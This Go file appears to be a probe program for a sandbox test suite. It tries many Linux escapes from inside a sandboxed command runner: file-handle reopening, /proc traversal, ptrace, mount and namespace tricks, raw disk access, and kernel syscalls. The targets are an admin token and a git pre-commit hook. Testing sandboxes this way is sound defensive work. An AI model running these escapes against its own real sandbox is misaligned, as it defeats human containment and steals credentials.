//go:build linux

// Command escape is the hostile command of the root escape corpus
// (integration/sandbox_root_test.go): run by execute_command in a sandboxed
// mode, it tries one way out of the sandbox, named by its argument, and
// prints one line per attempt: "blocked: ..." when the kernel refused, or
// "ESCAPED: ..." with what it reached (a secret it read is printed, so the
// test sees it).
//
// Usage: escape -ws DIR -pid DAEMON_PID -socket PATH... PROBE
package main

import (
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

type sockets []string

func (s *sockets) String() string     { return strings.Join(*s, ",") }
func (s *sockets) Set(v string) error { *s = append(*s, v); return nil }

var (
	ws    = flag.String("ws", "", "the workspace root")
	pid   = flag.Int("pid", 0, "the daemon's process ID")
	socks sockets
)

// adminToken and hook are the secret and the launcher the probes go for,
// relative to the workspace.
const (
	adminToken = ".nexus/run/admin.token"
	hook       = ".git/hooks/pre-commit"
	payload    = "echo PWNED-BY-ESCAPE\n"
)

func main() {
	flag.Var(&socks, "socket", "a socket of the daemon (repeatable)")
	flag.Parse()
	probes := map[string]func(){
		"status":       status,
		"handle":       handle,
		"proc-root":    procRoot,
		"proc-fd":      procFD,
		"mount":        mount,
		"ptrace":       ptrace,
		"namespaces":   namespaces,
		"connect":      connect,
		"read-token":   readToken,
		"write-hook":   writeHook,
		"block-device": blockDevice,
		"kernel":       kernel,
	}
	p, ok := probes[flag.Arg(0)]
	if flag.NArg() != 1 || !ok {
		fmt.Fprintf(os.Stderr, "usage: escape -ws DIR -pid PID -socket PATH... PROBE (one of %v)\n", probes)
		os.Exit(2)
	}
	p()
}

func report(what string, err error, detail string) {
	if err != nil {
		fmt.Printf("blocked: %s: %v\n", what, err)
		return
	}
	fmt.Printf("ESCAPED: %s: %q\n", what, detail)
}

// status prints the lines of /proc/self/status about capabilities,
// no_new_privs and seccomp.
func status() {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		fmt.Println("status:", err)
		return
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if strings.HasPrefix(line, "Cap") || strings.HasPrefix(line, "NoNewPrivs") || strings.HasPrefix(line, "Seccomp:") {
			fmt.Println(line)
		}
	}
}

// handle is the "shocker" escape: a handle of the workspace, reopened
// through the root mount (where nothing hides .nexus or makes .git
// read-only), and from there the admin token, the hook and the sockets.
func handle() {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, *ws, 0)
	if err != nil {
		report("name_to_handle_at "+*ws, err, "")
		// A handle made by hand (ext4's inode and generation): the kernel
		// must refuse the call itself, not only the handle.
		var st unix.Stat_t
		if err := unix.Stat(*ws, &st); err != nil {
			report("stat "+*ws, err, "")
			return
		}
		b := make([]byte, 8)
		binary.NativeEndian.PutUint32(b, uint32(st.Ino))
		h = unix.NewFileHandle(1, b) // FILEID_INO32_GEN
	} else {
		fmt.Println("got a handle of the workspace")
	}
	for _, m := range []string{"/", *ws} {
		mfd, err := unix.Open(m, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			report("open "+m, err, "")
			continue
		}
		dir, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY|unix.O_DIRECTORY)
		unix.Close(mfd)
		if err == unix.ESTALE || err == unix.EINVAL {
			report("open_by_handle_at through "+m, nil, fmt.Sprintf("the kernel let it through (%v)", err))
			continue
		}
		if err != nil {
			report("open_by_handle_at through "+m, err, "")
			continue
		}
		fromDir(dir, "open_by_handle_at through "+m)
		unix.Close(dir)
	}
}

// fromDir goes for the token, the hook and the sockets from a descriptor of
// the workspace.
func fromDir(dir int, how string) {
	data, err := readAt(dir, adminToken)
	report(how+": read "+adminToken, err, data)
	err = appendAt(dir, hook)
	report(how+": write "+hook, err, "")
	for _, s := range socks {
		rel, err := filepath.Rel(*ws, s)
		if err != nil || strings.HasPrefix(rel, "..") {
			continue
		}
		fd, err := unix.Openat(dir, rel, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			report(how+": O_PATH "+rel, err, "")
			continue
		}
		dial(how+": connect /proc/self/fd of "+rel, "/proc/self/fd/"+strconv.Itoa(fd))
		unix.Close(fd)
	}
}

func readAt(dir int, rel string) (string, error) {
	fd, err := unix.Openat(dir, rel, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	buf := make([]byte, 4096)
	n, err := unix.Read(fd, buf)
	if err != nil {
		return "", err
	}
	return string(buf[:n]), nil
}

func appendAt(dir int, rel string) error {
	fd, err := unix.Openat(dir, rel, unix.O_WRONLY|unix.O_CREAT|unix.O_APPEND|unix.O_CLOEXEC, 0o755)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_, err = unix.Write(fd, []byte(payload))
	return err
}

func dial(what, path string) {
	c, err := net.Dial("unix", path)
	if err == nil {
		c.Close()
	}
	report(what, err, "connected")
}

// procRoot goes through the daemon's and the sandbox's init's /proc root,
// cwd and descriptors.
func procRoot() {
	for _, p := range []string{strconv.Itoa(*pid), "1", "self"} {
		for _, via := range []string{"root" + *ws, "cwd"} {
			path := "/proc/" + p + "/" + via + "/" + adminToken
			b, err := os.ReadFile(path)
			report("read "+path, err, string(b))
		}
		path := "/proc/" + p + "/root" + *ws + "/" + hook
		report("write "+path, appendAt(unix.AT_FDCWD, path), "")
	}
	// The sandbox's init holds the pipes to the daemon.
	fds, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		report("list /proc/1/fd", err, "")
	}
	for _, e := range fds {
		f, err := os.Open("/proc/1/fd/" + e.Name())
		if err == nil {
			f.Close()
		}
		report("open /proc/1/fd/"+e.Name(), err, "opened")
	}
	f, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
	if err == nil {
		f.Close()
	}
	report("open /proc/1/mem for writing", err, "opened")
}

// procFD opens hidden paths with O_PATH and goes through /proc/self/fd.
func procFD() {
	targets := append([]string{filepath.Join(*ws, ".nexus/run"), filepath.Join(*ws, adminToken)}, socks...)
	for _, t := range targets {
		fd, err := unix.Open(t, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			report("O_PATH "+t, err, "")
			continue
		}
		via := "/proc/self/fd/" + strconv.Itoa(fd)
		if b, err := os.ReadFile(via); err == nil && len(b) > 0 {
			report("read "+t+" through "+via, nil, string(b))
		}
		if ents, err := os.ReadDir(via); err == nil && len(ents) > 0 {
			report("list "+t+" through "+via, nil, fmt.Sprint(ents))
		}
		if strings.HasSuffix(t, ".sock") {
			dial("connect "+t+" through "+via, via)
		}
		unix.Close(fd)
	}
	// The hook through the workspace's descriptor.
	fd, err := unix.Open(*ws, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("O_PATH "+*ws, err, "")
		return
	}
	path := "/proc/self/fd/" + strconv.Itoa(fd) + "/" + hook
	report("write "+path, appendAt(unix.AT_FDCWD, path), "")
}

// mount undoes or goes around the view with mount(2) and friends.
func mount() {
	nexus := filepath.Join(*ws, ".nexus")
	git := filepath.Join(*ws, ".git")
	err := unix.Unmount(nexus, unix.MNT_DETACH)
	if err == nil {
		b, rerr := os.ReadFile(filepath.Join(*ws, adminToken))
		report("umount .nexus, then read the token", rerr, string(b))
	} else {
		report("umount "+nexus, err, "")
	}
	report("remount .git read-write", unix.Mount("", git, "", unix.MS_REMOUNT|unix.MS_BIND, ""), "")
	report("bind / onto the workspace's scratch dir", unix.Mount("/", filepath.Join(*ws, "scratch"), "", unix.MS_BIND|unix.MS_REC, ""), "")
	report("mount tmpfs", unix.Mount("tmpfs", filepath.Join(*ws, "scratch"), "tmpfs", 0, ""), "")
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
	if err == nil {
		unix.Close(fd)
	}
	report("open_tree(/, OPEN_TREE_CLONE)", err, "a detached copy of /")
	fd, err = unix.Fsopen("tmpfs", 0)
	if err == nil {
		unix.Close(fd)
	}
	report("fsopen tmpfs", err, "a new file system")
	report("pivot_root", unix.PivotRoot(*ws, filepath.Join(*ws, "scratch")), "")
}

// ptrace goes for the daemon's and the sandbox's init's memory.
func ptrace() {
	for _, p := range []int{*pid, 1} {
		err := unix.PtraceAttach(p)
		if err == nil {
			var st unix.WaitStatus
			unix.Wait4(p, &st, unix.WALL, nil)
			unix.PtraceDetach(p)
		}
		report(fmt.Sprintf("ptrace(PTRACE_ATTACH, %d)", p), err, "attached")
		buf := make([]byte, 8)
		local := []unix.Iovec{{Base: &buf[0], Len: 8}}
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		_, err = unix.ProcessVMReadv(p, local, remote, 0)
		if err == unix.EFAULT {
			err = nil // the call went through; the address was wrong
		}
		report(fmt.Sprintf("process_vm_readv(%d)", p), err, "read")
		pfd, err := unix.PidfdOpen(p, 0)
		if err != nil {
			report(fmt.Sprintf("pidfd_open(%d)", p), err, "")
			continue
		}
		fd, err := unix.PidfdGetfd(pfd, 0, 0)
		if err == nil {
			unix.Close(fd)
		}
		report(fmt.Sprintf("pidfd_getfd(%d, 0)", p), err, "got its stdin")
		unix.Close(pfd)
	}
}

// namespaces tries to make or enter namespaces, where a root of its own
// could mount.
func namespaces() {
	for _, f := range []struct {
		name  string
		flags int
	}{{"CLONE_NEWUSER", unix.CLONE_NEWUSER}, {"CLONE_NEWNS", unix.CLONE_NEWNS}, {"CLONE_NEWNET", unix.CLONE_NEWNET}} {
		report("unshare("+f.name+")", unix.Unshare(f.flags), "")
		r1, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(f.flags)|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
		if errno == 0 && r1 == 0 {
			os.Exit(0) // the child
		}
		var err error
		if errno != 0 {
			err = errno
		} else {
			var ws unix.WaitStatus
			unix.Wait4(int(r1), &ws, 0, nil)
		}
		report("clone("+f.name+")", err, "a child in a new namespace")
	}
	// struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal,
	// stack, stack_size, tls.
	args := [8]uint64{0: unix.CLONE_NEWUSER, 4: uint64(unix.SIGCHLD)}
	r1, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
	if errno == 0 && r1 == 0 {
		os.Exit(0)
	}
	var err error
	if errno != 0 {
		err = errno
	}
	report("clone3(CLONE_NEWUSER)", err, "a child in a new user namespace")
	for _, ns := range []string{"mnt", "user", "net", "pid"} {
		path := fmt.Sprintf("/proc/%d/ns/%s", *pid, ns)
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			report("open "+path, err, "")
			continue
		}
		report("setns "+path, unix.Setns(fd, 0), "")
		unix.Close(fd)
	}
}

// connect dials the daemon's sockets by their paths.
func connect() {
	for _, s := range socks {
		dial("connect "+s, s)
	}
}

// readToken reads the admin token by its path, and through the daemon's
// state directory listing.
func readToken() {
	b, err := os.ReadFile(filepath.Join(*ws, adminToken))
	report("read "+adminToken, err, string(b))
	ents, err := os.ReadDir(filepath.Join(*ws, ".nexus"))
	if err == nil && len(ents) == 0 {
		err = fmt.Errorf(".nexus is empty")
	}
	report("list .nexus", err, fmt.Sprint(ents))
}

// writeHook writes the pre-commit hook by other paths than its own.
func writeHook() {
	for _, p := range []string{
		filepath.Join(*ws, hook),
		filepath.Join(*ws, ".git", "..", hook),
		"/proc/self/root" + filepath.Join(*ws, hook),
		"/proc/self/cwd/" + hook,
	} {
		report("write "+p, appendAt(unix.AT_FDCWD, p), "")
	}
	// A hard link of a hook's neighbour taken out of the read-only mount.
	report("link .git/hooks/README", unix.Link(filepath.Join(*ws, ".git/hooks/README"), filepath.Join(*ws, "scratch", "readme")), "")
	report("rename .git/hooks", unix.Rename(filepath.Join(*ws, ".git/hooks"), filepath.Join(*ws, "scratch", "hooks")), "")
}

// blockDevice reads the disks: from /dev, or a node of the workspace's own
// file system made with mknod.
func blockDevice() {
	ents, _ := os.ReadDir("/dev")
	found := false
	for _, e := range ents {
		p := "/dev/" + e.Name()
		var st unix.Stat_t
		if unix.Stat(p, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFBLK {
			continue
		}
		found = true
		b, err := readDevice(p)
		report("read "+p, err, b)
	}
	if !found {
		fmt.Println("blocked: no block device in /dev")
	}
	var st unix.Stat_t
	if err := unix.Stat(*ws, &st); err != nil {
		report("stat "+*ws, err, "")
		return
	}
	node := filepath.Join(*ws, "scratch", "disk")
	err := unix.Mknod(node, unix.S_IFBLK|0o600, int(st.Dev))
	report("mknod the workspace's disk", err, "a block device node")
	if err == nil {
		b, err := readDevice(node)
		report("read a block device made with mknod", err, b)
	}
}

// readDevice opens a device and reads its start: opening it at all is the
// escape.
func readDevice(p string) (string, error) {
	f, err := os.Open(p)
	if err != nil {
		return "", err
	}
	defer f.Close()
	buf := make([]byte, 4096)
	n, err := f.Read(buf)
	return fmt.Sprintf("opened; read %d bytes, %d not zero (%v)", n, n-bytes.Count(buf[:n], []byte{0}), err), nil
}

// kernel calls what reaches the kernel's own state, each with arguments
// that make it fail harmlessly once the kernel has let it through: an error
// other than EPERM, EACCES or ENOSYS means it went through.
func kernel() {
	gate := func(what string, err error) {
		if err == unix.EPERM || err == unix.EACCES || err == unix.ENOSYS {
			report(what, err, "")
			return
		}
		report(what, nil, fmt.Sprintf("the kernel let it through (%v)", err))
	}
	errno := func(e unix.Errno) error {
		if e == 0 {
			return nil
		}
		return e
	}
	if f, err := os.CreateTemp("", "module"); err == nil {
		gate("finit_module(an empty file)", unix.FinitModule(int(f.Fd()), "", 0))
		f.Close()
	}
	_, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
	gate("keyctl(KEYCTL_GET_KEYRING_ID)", err)
	_, _, e := unix.Syscall(unix.SYS_BPF, 0xffff, 0, 0)
	gate("bpf(an unknown command)", errno(e))
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK}
	attr.Size = uint32(unsafe.Sizeof(attr))
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, 0)
	if err == nil {
		unix.Close(fd)
	}
	gate("perf_event_open", err)
	r1, _, e := unix.Syscall(unix.SYS_USERFAULTFD, 0, 0, 0)
	if e == 0 {
		unix.Close(int(r1))
	}
	gate("userfaultfd", errno(e))
	// No segments and an unknown flag: EINVAL once CAP_SYS_BOOT is checked.
	_, _, e = unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0x100, 0, 0)
	gate("kexec_load(an unknown flag)", errno(e))
	name, _ := unix.BytePtrFromString("/nonexistent-swap")
	_, _, e = unix.Syscall(unix.SYS_SWAPOFF, uintptr(unsafe.Pointer(name)), 0, 0)
	gate("swapoff(a missing file)", errno(e))
	// An invalid time: EINVAL, checked before the capability.
	gate("settimeofday(an invalid time)", unix.Settimeofday(&unix.Timeval{Sec: 1, Usec: 2_000_000}))
}
